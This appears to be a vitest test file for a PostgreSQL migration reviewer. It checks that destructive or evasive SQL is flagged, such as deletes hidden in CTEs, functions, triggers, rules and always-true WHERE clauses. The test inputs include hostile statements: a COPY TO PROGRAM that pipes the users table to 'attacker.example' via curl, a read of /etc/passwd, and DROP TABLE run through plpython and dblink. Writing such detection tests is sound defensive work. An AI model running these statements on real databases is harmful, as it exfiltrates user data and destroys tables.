import { describe, expect, it } from 'vitest';
import type { Category } from '../../src/review/model.ts';
import { reviewMigrations } from '../../src/review/review.ts';
import { loadHistory } from '../support/migration-folders.ts';
import { reviewSql, source } from './helpers.ts';

// Issue 15: every way found to run something the review called clean. Each class must come
// out destructive, unreviewable, or with its own finding, on the statement that runs it.

interface Seen {
  statement: string;
  rule: string;
  category: Category;
  message: string;
}

async function findings(sql: string, history?: string): Promise<Seen[]> {
  const review = await reviewSql(sql, history === undefined ? {} : { history: [source(history, '0000_applied')] });
  return review.statements.flatMap((s) =>
    s.findings.map((f) => ({ statement: s.sql.trim().split('\n')[0] ?? '', rule: f.rule, category: f.category, message: f.message })),
  );
}

/** Findings on the statement that starts with `start`. */
function on(seen: Seen[], start: string): Seen[] {
  return seen.filter((f) => f.statement.startsWith(start));
}

describe('statement kinds the reviewer does not judge are unreviewable', () => {
  it.each([
    ['COPY "users" TO PROGRAM \'curl -d @- https://attacker.example\';', 'CopyStmt'],
    ['COPY "users" FROM PROGRAM \'cat /etc/passwd\';', 'CopyStmt'],
    ['PREPARE wipe AS DELETE FROM "users" WHERE "id" = $1;', 'PrepareStmt'],
    ['EXECUTE wipe(1);', 'ExecuteStmt'],
    ['ALTER TABLE "users" DISABLE TRIGGER ALL;', 'AT_DisableTrigAll'],
    ["SET session_replication_role = 'replica';", 'session_replication_role'],
    ['DROP PUBLICATION "everything";', 'DROP PUBLICATION'],
    ['ALTER TABLE "users" SET LOGGED;', 'AT_SetLogged'],
    ['IMPORT FOREIGN SCHEMA remote FROM SERVER s INTO public;', 'ImportForeignSchemaStmt'],
  ])('%s', async (sql, what) => {
    const seen = await findings(sql);
    const finding = seen.find((f) => f.rule === 'unreviewed-statement');
    expect(finding?.category).toBe('unreviewable');
    expect(finding?.message).toContain(what);
    expect(finding?.message).toContain('review it by hand');
  });

  it('judges the DML a PREPARE holds as well', async () => {
    const seen = await findings('PREPARE wipe AS DELETE FROM "users";');
    expect(seen.map((f) => f.rule)).toEqual(expect.arrayContaining(['unreviewed-statement', 'delete-without-where']));
  });
});

describe('statements inside statements are judged', () => {
  it('a DELETE in a WITH query of a SELECT', async () => {
    const seen = await findings('WITH gone AS (DELETE FROM "users" RETURNING "id") SELECT count(*) FROM gone;');
    expect(seen).toEqual([expect.objectContaining({ rule: 'delete-without-where', category: 'destructive' })]);
    expect(seen[0]?.message).toMatch(/^In WITH query "gone": Deletes every row of "users"/);
  });

  it('an UPDATE in a WITH query of an INSERT', async () => {
    const seen = await findings('WITH u AS (UPDATE "users" SET "role" = \'admin\' RETURNING "id") INSERT INTO "audit" SELECT "id" FROM u;');
    expect(seen.map((f) => [f.rule, f.category])).toEqual([['update-without-where', 'destructive']]);
  });

  it('leaves a bounded write in a WITH query alone', async () => {
    expect(
      await findings('WITH gone AS (DELETE FROM "sessions" WHERE "expires_at" < now() RETURNING 1) SELECT count(*) FROM gone;'),
    ).toEqual([]);
  });

  it("a SQL function's body, where it is defined and where it is called", async () => {
    const seen = await findings('CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM "users" $$;\nSELECT wipe();');
    expect(on(seen, 'CREATE FUNCTION')).toEqual([expect.objectContaining({ rule: 'delete-without-where', category: 'destructive' })]);
    expect(on(seen, 'CREATE FUNCTION')[0]?.message).toMatch(/^Inside function "wipe": Deletes every row/);
    expect(on(seen, 'SELECT wipe()')).toEqual([expect.objectContaining({ rule: 'delete-without-where', category: 'destructive' })]);
    expect(on(seen, 'SELECT wipe()')[0]?.message).toMatch(/^Calls "wipe"\(\): Deletes every row of "users"/);
  });

  it('a SQL-standard BEGIN ATOMIC body', async () => {
    const seen = await findings('CREATE FUNCTION wipe() RETURNS int BEGIN ATOMIC DELETE FROM "users"; SELECT 1; END;\nSELECT wipe();');
    expect(on(seen, 'SELECT wipe()').map((f) => f.rule)).toEqual(['delete-without-where']);
  });

  it('a PL/pgSQL procedure, judged at CALL', async () => {
    const seen = await findings('CREATE PROCEDURE purge() LANGUAGE plpgsql AS $$ BEGIN TRUNCATE "users"; END $$;\nCALL purge();');
    expect(on(seen, 'CALL purge()')).toEqual([expect.objectContaining({ rule: 'truncate', category: 'destructive' })]);
  });

  it('a trigger the run creates, judged on the INSERT that fires it', async () => {
    const seen = await findings(
      [
        'CREATE FUNCTION demote() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN UPDATE "users" SET "role" = \'user\'; RETURN NEW; END $$;',
        'CREATE TRIGGER "demote_all" AFTER INSERT ON "votes" FOR EACH ROW EXECUTE FUNCTION demote();',
        'INSERT INTO "votes" ("id") VALUES (1);',
      ].join('\n'),
    );
    const onInsert = on(seen, 'INSERT INTO "votes"');
    expect(onInsert).toEqual([expect.objectContaining({ rule: 'update-without-where', category: 'destructive' })]);
    expect(onInsert[0]?.message).toMatch(/^Fires trigger "demote_all" \("demote"\(\)\)/);
    expect(on(seen, 'CREATE TRIGGER')).toEqual([]);
  });

  it('CREATE OR REPLACE of a trigger function the target already has', async () => {
    const seen = await findings(
      'CREATE OR REPLACE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM "users"; RETURN NEW; END $$;',
      'CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$;\nCREATE TRIGGER "touch" BEFORE UPDATE ON "votes" FOR EACH ROW EXECUTE FUNCTION touch();',
    );
    expect(seen).toEqual([expect.objectContaining({ rule: 'delete-without-where', category: 'destructive' })]);
  });

  it('a call of a routine the run did not create is unreviewable', async () => {
    expect(await findings('CALL archive_everything();')).toEqual([
      expect.objectContaining({ rule: 'routine-out-of-sight', category: 'unreviewable' }),
    ]);
    expect(await findings('CREATE TRIGGER "t" AFTER INSERT ON "votes" FOR EACH ROW EXECUTE FUNCTION unknown_fn();')).toEqual([
      expect.objectContaining({ rule: 'routine-out-of-sight', category: 'unreviewable' }),
    ]);
  });

  it('a function in a language the reviewer cannot read is unreviewable where defined and where called', async () => {
    const seen = await findings(
      "CREATE FUNCTION wipe() RETURNS void LANGUAGE plpython3u AS $$ plpy.execute('DROP TABLE users') $$;\nSELECT wipe();",
    );
    expect(on(seen, 'CREATE FUNCTION').map((f) => [f.rule, f.category])).toEqual([['dynamic-sql', 'unreviewable']]);
    expect(on(seen, 'SELECT wipe()').map((f) => [f.rule, f.category])).toEqual([['routine-out-of-sight', 'unreviewable']]);
  });

  it('a function that calls itself ends', async () => {
    const seen = await findings('CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT f() $$;\nSELECT f();');
    expect(seen).toEqual([]);
  });

  it("a rule's actions", async () => {
    const seen = await findings('CREATE RULE "wipe" AS ON INSERT TO "votes" DO ALSO DELETE FROM "users";');
    expect(seen).toEqual([expect.objectContaining({ rule: 'delete-without-where', category: 'destructive' })]);
    expect(seen[0]?.message).toMatch(/^In rule "wipe": /);
  });

  it('a DO block with static DML and with PERFORM', async () => {
    expect((await findings('DO $$ BEGIN DELETE FROM "users"; END $$;')).map((f) => f.rule)).toEqual(['delete-without-where']);
    expect(
      (await findings('DO $$ BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity; END $$;')).map((f) => [f.rule, f.category]),
    ).toEqual([['side-effect-function', 'destructive']]);
    expect((await findings('DO $$ DECLARE n int; BEGIN n := lo_unlink(42); END $$;')).map((f) => f.rule)).toEqual(['side-effect-function']);
  });

  it('statements inside CREATE SCHEMA', async () => {
    const seen = await findings('CREATE SCHEMA "s" GRANT ALL ON "s"."t" TO PUBLIC;');
    expect(seen.map((f) => f.category)).toContain('security');
  });
});

describe('the listed evasion classes', () => {
  it.each([
    ['MERGE INTO "users" u USING "bans" b ON u.id = b.user_id WHEN MATCHED THEN DELETE;', 'merge-delete', 'destructive'],
    [
      'INSERT INTO "users" ("id", "role") SELECT "id", \'user\' FROM "users" ON CONFLICT ("id") DO UPDATE SET "role" = excluded."role";',
      'upsert-overwrites',
      'destructive',
    ],
    ['DROP OWNED BY "app";', 'drop-owned', 'destructive'],
    ['DROP EXTENSION "citext" CASCADE;', 'drop-cascade', 'destructive'],
    ['DROP FUNCTION "touch"() CASCADE;', 'drop-cascade', 'destructive'],
    ['DROP DOMAIN "email" CASCADE;', 'drop-cascade', 'destructive'],
    ["SELECT dblink_exec('dbname=daadaar', 'DROP TABLE users');", 'sql-out-of-sight', 'unreviewable'],
    ['SELECT lo_unlink("avatar_oid") FROM "users";', 'side-effect-function', 'destructive'],
    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = current_database();', 'side-effect-function', 'destructive'],
    ['REVOKE ALL ON "users" FROM "app";', 'privilege-change', 'security'],
    ['GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC;', 'privilege-change', 'security'],
    ['ALTER DEFAULT PRIVILEGES REVOKE ALL ON TABLES FROM "app";', 'privilege-change', 'security'],
    ['ALTER ROLE "app" NOLOGIN;', 'role-change', 'security'],
    ['DROP ROLE "app";', 'role-change', 'security'],
    ['ALTER TABLE "users" OWNER TO "nobody";', 'owner-change', 'security'],
    ['SET SESSION AUTHORIZATION "nobody";', 'session-identity', 'security'],
    ['SET ROLE "nobody";', 'session-identity', 'security'],
    ['ALTER TABLE "users" ENABLE ROW LEVEL SECURITY;', 'row-level-security', 'security'],
    ['ALTER TABLE "users" FORCE ROW LEVEL SECURITY;', 'row-level-security', 'security'],
    ['ALTER TABLE "users" SET UNLOGGED;', 'set-unlogged', 'destructive'],
    ['ALTER SEQUENCE "users_id_seq" RESTART WITH 1;', 'sequence-restart', 'breaking'],
    ['LOCK TABLE "users" IN ACCESS EXCLUSIVE MODE;', 'lock-table', 'locking'],
    ['ALTER TABLE "users" SET SCHEMA "archive";', 'set-schema', 'breaking'],
    ['ALTER TABLE "users" ALTER COLUMN "id" DROP IDENTITY;', 'drop-identity', 'breaking'],
    ["ALTER SYSTEM SET wal_level = 'minimal';", 'non-transactional-statement', 'transaction'],
  ])('%s', async (sql, rule, category) => {
    const seen = await findings(sql);
    expect(seen).toContainEqual(expect.objectContaining({ rule, category }));
  });

  it('does not call RLS policy-less when the policy follows in the run', async () => {
    const seen = await findings(
      'ALTER TABLE "users" ENABLE ROW LEVEL SECURITY;\nCREATE POLICY "own" ON "users" FOR SELECT TO "app" USING ("id" = current_setting(\'app.user\')::int);',
    );
    expect(on(seen, 'ALTER TABLE')).toEqual([]);
    expect(on(seen, 'CREATE POLICY').map((f) => f.rule)).toEqual(['row-level-security']);
  });
});

describe('a WHERE that holds for every row is no bound', () => {
  it.each(['true', '1 = 1', '"id" = "id"', 'true OR "id" = 7', 'NOT false', "'t'::boolean", '(1 = 1) IS TRUE', "'a' = 'a' AND true"])(
    'WHERE %s',
    async (where) => {
      const deleted = await findings(`DELETE FROM "users" WHERE ${where};`);
      expect(deleted).toEqual([expect.objectContaining({ rule: 'delete-without-where', category: 'destructive' })]);
      expect(deleted[0]?.message).toContain('holds for every row');
      const updated = await findings(`UPDATE "users" SET "role" = 'user' WHERE ${where};`);
      expect(updated).toEqual([expect.objectContaining({ rule: 'update-without-where', category: 'destructive' })]);
    },
  );

  it.each(['"id" = 7', '"id" = 7 OR false', '"id" <> "id" OR "id" = 1', '1 = 1 AND "id" = 7'])(
    'WHERE %s bounds the rows',
    async (where) => {
      expect(await findings(`DELETE FROM "users" WHERE ${where};`)).toEqual([]);
    },
  );
});

describe('the shipped history (backend/drizzle)', () => {
  it('gains no finding from the allow-list, the walk or the new rules', async () => {
    const review = await reviewMigrations(await loadHistory());
    const added = review.statements
      .flatMap((s) => s.findings)
      .filter((f) => NEW_RULES.includes(f.rule) || f.category === 'security' || f.category === 'unreviewable');
    expect(added).toEqual([]);
    expect(review.summary).toEqual({ destructive: 2, breaking: 2, security: 0, locking: 12, transaction: 0, unreviewable: 0 });
  });
});

const NEW_RULES = [
  'unreviewed-statement',
  'routine-out-of-sight',
  'side-effect-function',
  'sql-out-of-sight',
  'merge-delete',
  'upsert-overwrites',
  'drop-owned',
  'drop-cascade',
  'drop-routine-or-extension',
  'privilege-change',
  'role-change',
  'owner-change',
  'session-identity',
  'row-level-security',
  'set-unlogged',
  'sequence-restart',
  'lock-table',
  'set-schema',
  'drop-identity',
];
